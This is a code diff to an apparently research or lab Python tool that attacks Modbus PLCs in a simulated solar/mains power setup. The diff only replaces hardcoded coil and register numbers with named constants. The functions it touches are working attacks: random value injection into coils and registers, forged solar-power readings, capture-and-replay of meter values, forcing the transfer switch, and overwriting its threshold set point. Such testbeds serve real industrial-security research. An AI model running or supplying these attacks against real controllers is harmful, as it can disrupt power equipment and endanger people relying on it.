@@ -25,6 +25,12 @@ LOGO = r"""
                                                                                          |__/                                                  
 """
 
+# addresses found by naive_sensor_read on the PLCs (fixed here, they match PLC_MAP
+# in simulation/src/registermap.py, which the attacker does not ship with)
+SWITCH_COIL = 10        # coil: transfer switch state
+POWER_REGISTER = 20     # holding register: power meter reading
+THRESHOLD_REGISTER = 21 # holding register: transfer switch threshold
+
 # globals
 stop_looping = False
 
@@ -207,7 +213,7 @@ def sporadic_sensor_measurement_injection(ip_addresses):
     
     for ip in ip_addresses:
         print(f"Injecting random data for 10 seconds into {ip}")
-        print("Affecting found addresses: coil 10, holding register 20, 21")
+        print(f"Affecting found addresses: coil {SWITCH_COIL}, holding register {POWER_REGISTER}, {THRESHOLD_REGISTER}")
 
         client = ModbusClient(host=ip, port=502)
 
@@ -215,14 +221,14 @@ def sporadic_sensor_measurement_injection(ip_addresses):
         for _ in range(300):
             sleep(0.05)
             coil_value = random.choice([True, False])
-            client.write_single_coil(10, coil_value)
+            client.write_single_coil(SWITCH_COIL, coil_value)
 
         # affect holding registers
         for _ in range(300):
             sleep(0.05)
             hr_value = random.randint(0, 65535)
-            client.write_single_register(20, hr_value)
-            client.write_single_register(21, hr_value)
+            client.write_single_register(POWER_REGISTER, hr_value)
+            client.write_single_register(THRESHOLD_REGISTER, hr_value)
         
         client.close()
     print("### SPORADIC SENSOR MEASUREMENT INJECTION FINSIH ###")
@@ -234,7 +240,7 @@ def calculated_sensor_measure_injection(ip_addresses):
     print("### CALCULATED SENSOR MEASUREMENT INJECTION ###")
 
     for ip in ip_addresses:
-        print(f"Overwriting holding register address 20 for {ip}")
+        print(f"Overwriting holding register address {POWER_REGISTER} for {ip}")
         print("Injecting data to make it appear as if high amounts of solar power is being generated")
         print("Note: this attack should be executed at \"morning\" time for the simulation")
 
@@ -255,7 +261,7 @@ def calculated_sensor_measure_injection(ip_addresses):
         # inject calculated values
         for i in calculated_vals:
             for _ in range(5):
-                client.write_single_register(20, i)
+                client.write_single_register(POWER_REGISTER, i)
                 sleep(0.2)
         client.close()
     print("### CALCULATED SENSOR MEASUREMENT INJECTION FINISHED ###")
@@ -279,7 +285,7 @@ def replayed_measurement_injection(ip_addresses):
         th_stopper.start()
 
         while not stop_looping:
-            val = client.read_holding_registers(20)[0]
+            val = client.read_holding_registers(POWER_REGISTER)[0]
             captured_vals.append(val)
             print(f"Captured value: {val}")
             sleep(1)
@@ -287,7 +293,7 @@ def replayed_measurement_injection(ip_addresses):
         print(captured_vals)
         print("Replaying captured data")
         for i in captured_vals:
-            client.write_single_register(20, i)
+            client.write_single_register(POWER_REGISTER, i)
             print(f"Injected value: {i}")
             sleep(1)
         client.close()
@@ -313,10 +319,10 @@ def altered_actuator_state(ip_addresses, state=None):
 
             if ts_state == 1:
                 print("Setting transfer switch to mains power")
-                client.write_single_coil(10, 0)
+                client.write_single_coil(SWITCH_COIL, 0)
             elif ts_state == 2:
                 print("Setting transfer switch to solar power")
-                client.write_single_coil(10, 1)
+                client.write_single_coil(SWITCH_COIL, 1)
             
             if state is None:
                 cont = input("Change transfer switch state again? (y/n)")
@@ -336,7 +342,7 @@ def altered_control_set_points(ip_addresses, threshold=None):
     
     for ip in ip_addresses:
         # get new value to change to
-        print(f"Changing transfer switch threshold value (holding register 21) for {ip}")
+        print(f"Changing transfer switch threshold value (holding register {THRESHOLD_REGISTER}) for {ip}")
         new_val = 0
 
         if threshold is not None:
@@ -350,7 +356,7 @@ def altered_control_set_points(ip_addresses, threshold=None):
 
         # change threshold value
         client = ModbusClient(host=ip, port=502)
-        client.write_single_register(21, new_val)
+        client.write_single_register(THRESHOLD_REGISTER, new_val)
         client.close()
 
     print("### ALTERED CONTROL SET POINTS FINSIH")